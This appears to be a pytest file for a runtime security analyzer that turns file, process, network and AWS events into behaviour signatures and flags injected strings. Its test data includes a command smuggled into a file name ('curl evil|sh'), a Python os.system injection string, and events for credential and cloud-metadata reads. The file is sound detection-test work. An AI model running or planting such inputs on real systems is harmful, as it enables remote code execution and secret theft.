"""Behaviour signatures: volatile parts become patterns, shapes are kept."""

from __future__ import annotations

import pytest
from palisade_analyzer.signatures import behaviour_of, injected_strings


@pytest.mark.parametrize(
    ("kind", "op", "target", "detail", "signature", "sensitivity"),
    [
        (
            "file",
            "write",
            "/tmp/tmpk3j2h1x_.png",
            {},
            "file:write:/tmp/*.png",
            "tmp-file",
        ),
        (
            "file",
            "read",
            "/tmp/9f1c2d3e-aaaa-4bbb-8ccc-123456789abc/in.jpg",
            {},
            "file:read:/tmp/*/in.jpg",
            "tmp-file",
        ),
        ("file", "read", "/tmp/out-17.png", {}, "file:read:/tmp/out-*.png", "tmp-file"),
        ("file", "create", "/tmp/972sj9bz", {}, "file:create:/tmp/*", "tmp-file"),
        ("file", "read", "/tmp/readme01", {}, "file:read:/tmp/*", "tmp-file"),
        ("file", "create", "/tmp/x/klpgzwaq", {}, "file:create:/tmp/x/*", "tmp-file"),
        ("file", "read", "/tmp/abcdefghi", {}, "file:read:/tmp/abcdefghi", "tmp-file"),
        (
            "file",
            "read",
            "/proc/1/loginuid",
            {},
            "file:read:/proc/*/loginuid",
            "file-read",
        ),
        ("file", "read", "/proc/123/stat", {}, "file:read:/proc/*/stat", "file-read"),
        (
            "file",
            "read",
            "/proc/self/environ",
            {},
            "file:read:/proc/self/environ",
            "credentials",
        ),
        (
            "file",
            "read",
            "/var/lang/lib/python3.12/json/__init__.py",
            {},
            "file:read:/var/lang/lib/python3.12/json/__init__.py",
            "code-read",
        ),
        (
            "file",
            "write",
            "/var/task/app.py",
            {},
            "file:write:/var/task/app.py",
            "code-dir-write",
        ),
        (
            "file",
            "read",
            "/cache/b21b84d653bb07b05b1e6b33684dc11b.bin",
            {},
            "file:read:/cache/*.bin",
            "file-read",
        ),
        (
            "process",
            "spawn",
            "/usr/bin/convert",
            {"argv": ["convert", "/tmp/a.png", "-resize", "50%", "/tmp/b.png"]},
            "process:/usr/bin/convert -resize",
            "process",
        ),
        (
            "process",
            "spawn",
            "/usr/bin/gzip",
            {"argv": ["gzip", "-9", "--suffix=.z", "f"]},
            "process:/usr/bin/gzip --suffix=*",
            "process",
        ),
        (
            "process",
            "spawn",
            "/bin/sh",
            {"argv": ["/bin/sh", "-c", "ls -la /tmp"], "shell": True},
            "process:/bin/sh -c",
            "shell",
        ),
        (
            "process",
            "spawn",
            "/tmp/payload",
            {"argv": ["/tmp/payload"]},
            "process:/tmp/payload",
            "tmp-exec",
        ),
        (
            "network",
            "connect",
            "52.219.100.1:443",
            {"ip": "52.219.100.1", "port": 443, "resolved_from": "API.Example.com."},
            "network:api.example.com:443",
            "egress",
        ),
        (
            "network",
            "connect",
            "203.0.113.9:8443",
            {"ip": "203.0.113.9", "port": 8443},
            "network:203.0.113.9:8443",
            "egress",
        ),
        (
            "network",
            "sendto",
            "8.8.8.8:53",
            {"ip": "8.8.8.8", "protocol": "udp"},
            "network:sendto/udp:8.8.8.8:53",
            "egress",
        ),
        (
            "network",
            "connect",
            "169.254.169.254:80",
            {"ip": "169.254.169.254"},
            "network:169.254.169.254:80",
            "metadata",
        ),
        (
            "network",
            "connect",
            "[2001:db8::1]:443",
            {"ip": "2001:db8::1"},
            "network:2001:db8::1:443",
            "egress",
        ),
        ("dns", "resolve", "API.example.com.", {}, "dns:api.example.com", "dns"),
        (
            "aws",
            "call",
            "dynamodb:PutItem:orders",
            {},
            "aws:dynamodb:PutItem:orders",
            "aws",
        ),
        (
            "aws",
            "call",
            "s3:GetObject:bucket/uploads/2024/05/photo.png",
            {
                "service": "s3",
                "operation": "GetObject",
                "resource": "bucket/uploads/2024/05/photo.png",
            },
            "aws:s3:GetObject:bucket/uploads/*",
            "aws",
        ),
        (
            "aws",
            "call",
            "s3:PutObject:bucket/report.csv",
            {},
            "aws:s3:PutObject:bucket/*.csv",
            "aws",
        ),
        (
            "aws",
            "call",
            "secretsmanager:GetSecretValue:prod/db",
            {},
            "aws:secretsmanager:GetSecretValue:prod/db",
            "aws-sensitive",
        ),
        ("code", "exec", "<string>", {}, "code:exec:<string>", "code-load"),
        ("code", "import", "json", {}, "code:import:json", "import"),
        (
            "env",
            "read",
            "/proc/self/environ",
            {},
            "env:read:/proc/self/environ",
            "credentials",
        ),
    ],
)
def test_signature_and_sensitivity(kind, op, target, detail, signature, sensitivity):
    """Each event maps to the documented signature and sensitivity class."""
    behaviour = behaviour_of(kind, op, target, detail)
    assert behaviour.signature == signature
    assert behaviour.sensitivity == sensitivity


def test_benign_variation_collapses_to_one_signature():
    """Temp names, request ids and S3 keys under a prefix give one signature each."""
    paths = [f"/tmp/tmp{n:08x}.png" for n in (0x1A2B3C4D, 0x0F0E0D0C, 0x99887766)]
    assert len({behaviour_of("file", "write", p, {}).signature for p in paths}) == 1
    keys = [
        "uploads/a.png",
        "uploads/9f1c2d3e-aaaa-4bbb-8ccc-123456789abc.png",
        "uploads/2024/x.png",
    ]
    sigs = {
        behaviour_of(
            "aws",
            "call",
            f"s3:GetObject:b/{k}",
            {"service": "s3", "operation": "GetObject", "resource": f"b/{k}"},
        ).signature
        for k in keys
    }
    assert sigs == {"aws:s3:GetObject:b/uploads/*"}


def test_argv_values_do_not_change_the_shape():
    """Free values (sizes, file names) are dropped; flags are kept in order."""
    a = behaviour_of(
        "process",
        "spawn",
        "/usr/bin/convert",
        {"argv": ["convert", "x.png", "-resize", "10x10", "y.png"]},
    )
    b = behaviour_of(
        "process",
        "spawn",
        "/usr/bin/convert",
        {"argv": ["convert", "other.png", "-resize", "99x99", "z.png"]},
    )
    c = behaviour_of(
        "process",
        "spawn",
        "/usr/bin/convert",
        {"argv": ["convert", "x.png", "-write", "/var/task/y"]},
    )
    assert a.signature == b.signature != c.signature


def test_injected_strings_found_in_arguments():
    """Event strings inside argv are reported; short or absent ones are not."""
    digest = ["uploads/cat.png;curl evil|sh", "abc", "unrelated-value"]
    detail = {"argv": ["/bin/sh", "-c", "convert 'uploads/cat.png;curl evil|sh' out"]}
    assert injected_strings("process", "/bin/sh", detail, digest) == [
        "uploads/cat.png;curl evil|sh"
    ]
    assert injected_strings("process", "/bin/sh", {"argv": ["ls"]}, digest) == []


def test_event_text_in_compiled_source_is_injection():
    """eval/compile of source holding the event's own text is flagged."""
    digest = ["__import__('os').system('id')"]
    detail = {"source": "__import__('os').system('id')", "length": 29}
    assert injected_strings("code", "<string>", detail, digest) == digest
